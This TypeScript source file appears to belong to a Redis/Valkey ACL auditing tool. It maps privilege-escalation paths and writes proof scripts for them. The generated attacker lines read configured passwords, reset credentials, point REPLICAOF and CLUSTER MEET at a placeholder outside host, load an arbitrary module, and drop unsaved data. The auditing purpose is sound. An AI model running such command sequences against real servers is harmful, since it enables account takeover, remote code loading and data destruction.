import { textAt } from '../../acl/argv'
import type { Bytes } from '../../acl/bytes'
import type { Command } from '../../acl/command'
import { hashPassword } from '../../acl/password'
import { canLogIn, type User } from '../../acl/user'
import { runOf } from '../../proof/reach'
import type { Target } from '../../targets/target'
import { callsFunctions, heldEscalations, heldSort, uncheckedSort, type HeldEscalation } from '../escalation'
import type { ScriptLine, Word } from './script'
import { links, type Control, type Link } from './steps'

/** The part of a server on which ways depend. */
export interface Policy {
  readonly users: Iterable<User> & { get(name: Bytes): User | undefined }
  readonly target: Target
  readonly config: { get(name: string): Bytes; find(name: Bytes): { readonly name: string } | undefined }
  /** Commands that rename-command removed. */
  readonly hidden: ReadonlySet<Bytes>
}

/**
 * A holding of somebody: to be a user, with its passwords; a session of one; the rights of a user who calls functions; a password;
 * a connection, logged in or not; or power over the server.
 */
export type Held =
  | { readonly kind: 'user' | 'session' | 'rights'; readonly user: User }
  | { readonly kind: 'password'; readonly hash: Bytes }
  | { readonly kind: 'connection' | 'functions' | Control }

/** A rule or credential without which a step cannot be taken. */
export type Cause =
  | { readonly kind: 'command'; readonly user: User; readonly selector: number; readonly command: Command }
  | { readonly kind: 'nopass'; readonly user: User }
  | { readonly kind: 'password'; readonly user: User; readonly hash: Bytes }

/** The state of a script’s writer so far. */
export interface Cursor {
  readonly lines: ScriptLine[]
  /** The user that the attacker's connection is logged in as. */
  me: Bytes
  /** The last password that was learned or known. */
  password: Word
  /** The sender who may change rules. */
  ruler: ScriptLine['sender']
  /** A key to be reached; null where a user is. */
  readonly key: Bytes | null
}

/** A step from one thing that is held to another. */
export interface Edge {
  readonly to: Held
  /** The number of lines that it adds. */
  readonly cost: number
  /** The effect, as text to follow `can`. */
  readonly what: string
  /** The servers on which it was seen; see `Escalation.tried`. */
  readonly tried: readonly string[]
  readonly causes: readonly Cause[]
  readonly write: (cursor: Cursor) => void
}

/** The password that scripts give to others. */
export const CHOSEN = 'chosen-password'
const HOST = '203.0.113.9'
const PORT = '6379'

/** Adds a line of the attacker's connection. */
export const attack = (cursor: Cursor, ...argv: readonly Word[]): void => {
  cursor.lines.push({ sender: 'attacker', user: cursor.me, argv })
}

/** Adds a line that changes rules, sent by whoever may. */
export const rule = (cursor: Cursor, ...argv: readonly Word[]): void => {
  const { ruler } = cursor
  cursor.lines.push({ sender: ruler, user: ruler === 'attacker' ? cursor.me : '', argv })
}

/** The steps between all that can be held on a server with these users and this configuration. */
export class Graph {
  /** False where rename-command removed AUTH and HELLO. */
  readonly canLogIn: boolean
  readonly #byHash = new Map<Bytes, User[]>()
  /** Users that need no password. */
  readonly #open: User[] = []
  readonly #callers: User[] = []
  /** Passwords that the configuration holds in clear, by directive. */
  readonly #secrets: readonly (readonly [string, Bytes])[]

  constructor(readonly policy: Policy) {
    this.canLogIn = !['auth', 'hello'].every((name) => policy.hidden.has(name))
    for (const user of policy.users) {
      if (!canLogIn(user) || !this.canLogIn) continue
      if (user.nopass) this.#open.push(user)
      else
        for (const { hash } of user.passwords) {
          const sharing = this.#byHash.get(hash)
          if (sharing === undefined) this.#byHash.set(hash, [user])
          else sharing.push(user)
        }
      if (callsFunctions(user)) this.#callers.push(user)
    }
    const names = ['requirepass', 'masterauth', 'primaryauth'].flatMap((name) => policy.config.find(name)?.name ?? [])
    this.#secrets = [...new Set(names)].flatMap((name): (readonly [string, Bytes])[] => {
      const value = policy.config.get(name)
      return value === '' ? [] : [[name, hashPassword(value)]]
    })
  }

  /** Returns the steps from something that is held. */
  from(held: Held): readonly Edge[] {
    switch (held.kind) {
      case 'user':
        return this.#fromUser(held.user)
      case 'session':
        return this.#heldBy(held.user).flatMap((one) => this.#by(held.user, one))
      case 'password':
        return (this.#byHash.get(held.hash) ?? []).map((user) =>
          this.#link(
            'same-password',
            { kind: 'session', user },
            1,
            [{ kind: 'password', user, hash: held.hash }],
            (cursor) => {
              this.#logIn(cursor, user, cursor.password)
            },
          ),
        )
      case 'connection':
        return this.#open.map((user) =>
          this.#link('nopass', { kind: 'session', user }, 1, [{ kind: 'nopass', user }], (cursor) => {
            this.#logIn(cursor, user, 'anything')
          }),
        )
      case 'secrets':
        return this.#secrets.map(([directive, hash]) =>
          this.#link('secret', { kind: 'password', hash }, 1, [], (cursor) => {
            attack(cursor, 'CONFIG', 'GET', directive)
            cursor.password = { directive }
          }),
        )
      case 'functions':
        return this.#callers.map((user) => this.#link('functions', { kind: 'rights', user }, 0, [], () => undefined))
      case 'configuration':
        return this.#fromConfiguration()
      case 'replication':
        return [this.#link('set-rules', { kind: 'rules' }, 0, [], (cursor) => (cursor.ruler = 'primary'))]
      case 'nodes':
        return [this.#link('claim-slots', { kind: 'rules' }, 0, [], (cursor) => (cursor.ruler = 'primary'))]
      case 'code':
        return [this.#link('set-rules', { kind: 'rules' }, 0, [], (cursor) => (cursor.ruler = 'module'))]
      default:
        return []
    }
  }

  /** Writes the lines by which somebody who may change rules logs in as a user. */
  takeOver(cursor: Cursor, user: User): void {
    rule(cursor, 'ACL', 'SETUSER', user.name, 'on', `>${CHOSEN}`)
    this.#logIn(cursor, user, CHOSEN)
  }

  #heldBy(user: User): readonly HeldEscalation[] {
    const { hidden, target } = this.policy
    const sort = hidden.has('sort') ? null : heldSort(target, user)
    return [...heldEscalations(user, this.#callers, hidden), ...(sort === null ? [] : [sort])]
  }

  /** A user knows its passwords, and can use its session. */
  #fromUser(user: User): Edge[] {
    const { users } = this.policy
    const known = user.nopass ? [] : user.passwords.map(({ hash }) => hash)
    const edges = known.map((hash) =>
      this.#link('same-password', { kind: 'password', hash }, 0, [{ kind: 'password', user, hash }], (cursor) => {
        cursor.password = { passwordOf: user.name }
      }),
    )
    edges.push(this.#link('same-password', { kind: 'session', user }, 0, [], () => undefined))
    const setsRoles = heldEscalations(user, [], this.policy.hidden).find(({ argv }) => textAt(argv, 1) === 'setrole')
    if (setsRoles === undefined || user.roles.length > 0) return edges
    // A role of somebody else whom it can be, too.
    const others = [...known.flatMap((hash) => this.#byHash.get(hash) ?? []), ...this.#open]
    const other = others.find(({ roles }) => roles.length > 0)
    if (other === undefined || users.get(other.name) === undefined) return edges
    const hash = known.find((one) => other.passwords.some((password) => password.hash === one))
    edges.push(
      this.#step(
        user,
        setsRoles,
        { kind: 'rules' },
        2,
        (cursor) => {
          attack(cursor, 'ACL', 'SETROLE', other.roles[0] ?? '', ...everything)
          this.#logIn(cursor, other, hash === undefined ? 'anything' : { passwordOf: user.name })
        },
        hash === undefined ? [{ kind: 'nopass', user: other }] : [{ kind: 'password', user: other, hash }],
      ),
    )
    return edges
  }

  /** The step that a session can take with an escalating command. */
  #by(user: User, held: HeldEscalation): Edge[] {
    const { escalation, argv, guardedBy } = held
    const { gives, holdsRole } = escalation
    if (gives === null || holdsRole === false) return []
    if (guardedBy !== null && this.policy.config.get(guardedBy) === 'no') return []
    const step = (cost: number, write: Edge['write']): Edge[] => [this.#step(user, held, { kind: gives }, cost, write)]
    const name = textAt(argv, 0)
    switch (gives) {
      case 'rules':
        if (holdsRole !== true) return step(0, (cursor) => (cursor.ruler = 'attacker'))
        return step(1, (cursor) => {
          attack(cursor, 'ACL', 'SETROLE', user.roles[0] ?? '', ...everything)
          cursor.ruler = 'attacker'
        })
      case 'replication':
        return step(1, (cursor) => attack(cursor, name, HOST, PORT))
      case 'nodes':
        return step(3, (cursor) => {
          cursor.lines.push(
            { sender: 'node', user: '', argv: ['CLUSTER', 'ADDSLOTSRANGE', '0', '16383'] },
            { sender: 'node', user: '', argv: ['CLUSTER', 'SET-CONFIG-EPOCH', '9999'] },
          )
          attack(cursor, 'CLUSTER', 'MEET', HOST, PORT)
        })
      case 'code':
        return step(1, (cursor) => attack(cursor, 'MODULE', textAt(argv, 1), '/tmp/their-module.so'))
      case 'reads':
        if (escalation === uncheckedSort) return step(1, (cursor) => attack(cursor, ...this.#sorting(user, held)))
        return step(1, (cursor) => attack(cursor, name, ...(name === 'psync' ? ['?', '-1'] : [])))
      case 'arguments':
        return step(1, (cursor) => attack(cursor, name, 'GET', ...(name === 'commandlog' ? ['128', 'slow'] : ['128'])))
      case 'writes':
        return step(1, (cursor) => attack(cursor, 'DEBUG', ...debugging(cursor.key ?? '')))
      case 'functions':
        // The others take functions away, and put none in their place.
        return ['load', 'restore'].includes(textAt(argv, 1)) ? step(0, () => undefined) : []
      default:
        return step(0, () => undefined)
    }
  }

  /** Returns a SORT that reads the keys that the elements of a list name. */
  #sorting(user: User, { command, argv }: HeldEscalation): readonly Bytes[] {
    const { target, hidden } = this.policy
    const found = runOf({ user, target, hidden }, new Set([command]), null, { db: null })
    return [...(found.kind === 'line' ? found.line.argv : argv), 'BY', 'nosort', 'GET', '*']
  }

  #fromConfiguration(): Edge[] {
    const user = this.policy.users.get('default')
    const evicts = this.#link('eviction', { kind: 'writes' }, 2, [], (cursor) => {
      attack(cursor, 'CONFIG', 'SET', 'maxmemory-policy', 'allkeys-random')
      attack(cursor, 'CONFIG', 'SET', 'maxmemory', '1')
    })
    if (user?.enabled !== true) return [evicts]
    const logsIn = this.#link('requirepass', { kind: 'session', user }, 2, [], (cursor) => {
      attack(cursor, 'CONFIG', 'SET', 'requirepass', CHOSEN)
      this.#logIn(cursor, user, CHOSEN)
    })
    return [logsIn, evicts]
  }

  #logIn(cursor: Cursor, { name }: User, password: Word): void {
    const { hidden } = this.policy
    attack(cursor, ...(hidden.has('auth') ? ['HELLO', '2', 'AUTH'] : ['AUTH']), name, password)
    cursor.me = name
  }

  #step(
    user: User,
    { command, selector, escalation, what }: HeldEscalation,
    to: Held,
    cost: number,
    write: Edge['write'],
    more: readonly Cause[] = [],
  ): Edge {
    const causes: readonly Cause[] = [{ kind: 'command', user, selector, command }, ...more]
    return { to, cost, what, tried: escalation.tried, causes, write }
  }

  #link(link: Link, to: Held, cost: number, causes: readonly Cause[], write: Edge['write']): Edge {
    return { to, cost, ...links[link], causes, write }
  }
}

/** The arguments by which DEBUG changes a key: it makes one that ends in `:0`, or drops all that was not saved. */
const debugging = (key: Bytes): readonly Bytes[] =>
  key.endsWith(':0') ? ['POPULATE', '1', key.slice(0, -2)] : ['RELOAD', 'NOSAVE']

/** The rules that grant everything. */
const everything: readonly Bytes[] = ['~*', '&*', '+@all', 'alldbs']
